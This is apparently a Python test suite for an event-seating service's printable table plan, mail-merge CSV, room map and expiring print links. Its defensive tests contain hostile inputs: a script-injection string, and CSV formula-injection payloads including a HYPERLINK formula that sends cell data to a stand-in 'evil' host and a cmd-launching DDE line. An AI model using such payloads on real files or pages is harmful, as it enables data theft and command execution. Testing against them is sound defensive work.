"""The table plan on paper: natural table order, seats numbered with companions side by side, every seat's
name, organisation, perspective in words and by pattern, access needs, a legend on every page; the CSV a
mail merge reads; print links given/when/then."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta

from services.scheduling.domain.attendees import Person, Register
from services.scheduling.domain.gathering import Gathering, Plan, gathering_decider
from services.scheduling.domain.seating import IssuePrintLink, PlanTables, RevokePrintLink, SetTables
from services.scheduling.events import GatheringPlanned, PrintLinkIssued, PrintLinkRevoked, TableSpec
from services.scheduling.http.printout import PATTERNS, printable_plan, room_map
from services.scheduling.http.sheets import CSV_COLUMNS, natural, seating_csv, spreadsheet_text, table_sheets
from shared.domain.errors import InvalidCommand, NotFound
from shared.domain.specification import DeciderSpecification

T0 = datetime(2026, 9, 12, 9, tzinfo=UTC)  # 10:00 in London (BST)
PLAN = Plan(gathering_id=uuid.UUID(int=1), group_id=uuid.UUID(int=2), title="Co-Producing Co-Production",
            venue="Community hall", starts_at=T0, ends_at=T0 + timedelta(hours=6), capacity=200, accessibility="",
            sessions=(), at=T0)
HOSTILE = '<script>alert("x")</script> & Sons'
SUPPORT, WORKER = uuid.UUID(int=500), uuid.UUID(int=501)


def _gathering(people: int = 36, tables: int = 12) -> Gathering:
    g = gathering_decider.initial_state()
    commands: list[object] = [PLAN]
    perspectives = ["lived_experience", "service_provider", "both", "other"]
    for n in range(people):
        commands.append(Register(person=Person(
            attendee_id=uuid.UUID(int=1000 + n), name=f"Guest {n + 1}", perspective=perspectives[n % 4],  # type: ignore[arg-type]
            organisation=HOSTILE if n == 0 else f"Organisation {n % 5 + 1}",
            needs=("step_free",) if n % 9 == 0 else ()), at=T0))
    commands.append(Register(person=Person(attendee_id=SUPPORT, name="Zara Quinn", perspective="lived_experience",
                                           organisation="Organisation 1", seat_with=(WORKER,)), at=T0))
    commands.append(Register(person=Person(attendee_id=WORKER, name="Alex Support", perspective="service_provider",
                                           organisation="Organisation 2"), at=T0))
    commands.append(SetTables(tables=tuple(TableSpec(table_id=f"Table {n + 1}", size=4,
                                                     features=("step_free",) if n < 3 else ()) for n in range(tables)),
                              at=T0))
    commands.append(PlanTables(at=T0))
    for command in commands:
        for event in gathering_decider.decide(command, g):  # type: ignore[arg-type]
            g = gathering_decider.evolve(g, event)
    return g


def test_tables_come_in_natural_order_and_companions_sit_side_by_side() -> None:
    g = _gathering()
    sheets = table_sheets(g)
    assert [s.table_id for s in sheets] == [f"Table {n}" for n in range(1, 13)]  # 2 before 10, not 1, 10, 11, 12, 2
    assert sorted(["Table 10", "Table 2", "table 1", "Table 1b"], key=natural) == ["table 1", "Table 1b", "Table 2",
                                                                                   "Table 10"]
    [theirs] = [s for s in sheets if any(seat.name == "Zara Quinn" for seat in s.seats)]
    numbers = {seat.name: seat.number for seat in theirs.seats}
    assert abs(numbers["Zara Quinn"] - numbers["Alex Support"]) == 1
    assert [seat.number for s in sheets for seat in s.seats if s is theirs] == list(range(1, len(theirs.seats) + 1))


def test_the_printout_names_every_seat_with_words_and_patterns_and_a_legend_on_every_page() -> None:
    g = _gathering()
    page = printable_plan(g, "Europe/London", "table-plan.csv")
    sheets = table_sheets(g)
    seated = [seat for s in sheets for seat in s.seats]
    for seat in seated:
        assert f'<span class="name">{seat.name}</span>' in page
    assert page.count('<section class="page table-page"') == len(sheets)  # one page per table ...
    assert "break-after: page" in page and "@page { size: A4" in page  # ... each printed on its own sheet
    positions = [page.index(f">{s.table_id}</h2>") for s in sheets]
    assert positions == sorted(positions)
    assert page.count('class="legend"') == len(sheets) + 1  # the overview and every table page
    for words in ("Lived experience", "Service provider", "Lived experience and service provider", "Other perspective"):
        assert words in page
    assert all(f'id="p-{key}"' in page for key in PATTERNS) and all(marks for _, marks in PATTERNS.values())
    assert "Step-free access" in page and "Saturday 12 September 2026, 10:00\u201316:00" in page
    assert "<script>" not in page and "&lt;script&gt;" in page  # a name or organisation cannot inject anything
    assert not re.search(r"(src|href)=\"(https?:)?//", page)  # nothing loaded from elsewhere
    assert page.count('class="who"') == len(seated)  # the index lists everyone


def test_the_csv_has_a_row_per_person_in_table_and_seat_order_for_a_mail_merge() -> None:
    g = _gathering()
    rows = list(csv.DictReader(io.StringIO(seating_csv(g, "Europe/London"))))
    assert list(rows[0]) == CSV_COLUMNS and len(rows) == 38
    order = [(natural(r["table"]), int(r["seat"])) for r in rows]
    assert order == sorted(order)
    first = next(r for r in rows if r["name"] == "Guest 1")
    assert first["organisation"] == HOSTILE and first["access_needs"] == "Step-free access"
    assert first["perspective"] == "lived_experience" and first["perspective_label"] == "Lived experience"
    assert first["date"] == "Saturday 12 September 2026, 10:00\u201316:00" and first["venue"] == "Community hall"


def test_what_a_member_typed_never_runs_as_a_formula_when_the_csv_is_opened() -> None:
    formulas = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@sum(1)", "\t=1+1",
                "\r=1", "  =1+1"]
    g = _gathering()
    g = gathering_decider.evolve(g, next(iter(gathering_decider.decide(Register(person=Person(
        attendee_id=uuid.UUID(int=900), name=formulas[0], organisation=formulas[1], perspective="other"), at=T0), g))))
    assert [spreadsheet_text(cell) for cell in formulas] == ["'" + cell for cell in formulas]
    assert [spreadsheet_text(cell) for cell in ("Ada", "O'Neil", "", 3, "Table 1")] == ["Ada", "O'Neil", "", 3, "Table 1"]
    rows = list(csv.DictReader(io.StringIO(seating_csv(gathering_decider.evolve(g, next(iter(
        gathering_decider.decide(PlanTables(at=T0), g)))), "Europe/London"))))
    [theirs] = [r for r in rows if "HYPERLINK" in r["name"]]
    assert theirs["name"] == "'" + formulas[0] and theirs["organisation"] == "'" + formulas[1]


def test_the_room_map_shows_names_and_letters_not_only_colours() -> None:
    svg = room_map(_gathering())
    assert "Guest 1 (L)" in svg and "S: Service provider" in svg and "Table 12" in svg and "<title>" not in svg
    assert svg.index(">Table 2<") < svg.index(">Table 10<")


def test_a_print_link_is_issued_by_hash_works_until_it_expires_and_can_be_revoked() -> None:
    spec = DeciderSpecification(gathering_decider)
    planned = GatheringPlanned(**{f: getattr(PLAN, f) for f in PLAN.__struct_fields__})
    link, by = uuid.UUID(int=9), uuid.UUID(int=10)
    issue = IssuePrintLink(link_id=link, token_hash="ab12", by=by, expires_at=T0 + timedelta(hours=24), at=T0)
    issued = PrintLinkIssued(link_id=link, token_hash="ab12", by=by, expires_at=T0 + timedelta(hours=24), at=T0)
    seating = spec.given(planned).when(issue).then(issued).state.seating
    assert seating.print_link("ab12", T0 + timedelta(hours=23)) == issued
    assert seating.print_link("ab12", T0 + timedelta(hours=24)) is None  # expired
    assert seating.print_link("cd34", T0) is None
    revoked = spec.given(planned, issued).when(RevokePrintLink(link_id=link, at=T0)).then(
        PrintLinkRevoked(link_id=link, at=T0)).state.seating
    assert revoked.print_link("ab12", T0) is None
    spec.given(planned, issued, PrintLinkRevoked(link_id=link, at=T0)).when(
        RevokePrintLink(link_id=link, at=T0)).then_fails(NotFound, "no such print link")
    spec.given(planned).when(IssuePrintLink(link_id=link, token_hash="ab12", by=by, expires_at=T0, at=T0)).then_fails(
        InvalidCommand, "expire")
    spec.given().when(issue).then_fails(NotFound, "no such gathering")


def test_a_gatherings_tables_have_at_most_twenty_thousand_seats_in_all() -> None:
    """Every printout draws each seat: 5,000 tables of 1,000 seats took 2.7 GB for one room map (the attacker's
    find)."""
    spec = DeciderSpecification(gathering_decider)
    planned = GatheringPlanned(**{f: getattr(PLAN, f) for f in PLAN.__struct_fields__})
    huge = SetTables(tables=tuple(TableSpec(table_id=f"T{n}", size=1000) for n in range(5000)), at=T0)
    refused = spec.given(planned).when(huge).then_fails(InvalidCommand, "20,000 seats")
    assert refused.field == "tables"  # type: ignore[attr-defined]
    enough = SetTables(tables=tuple(TableSpec(table_id=f"T{n}", size=10) for n in range(2000)), at=T0)
    assert len(spec.given(planned).when(enough).state.seating.tables) == 2000
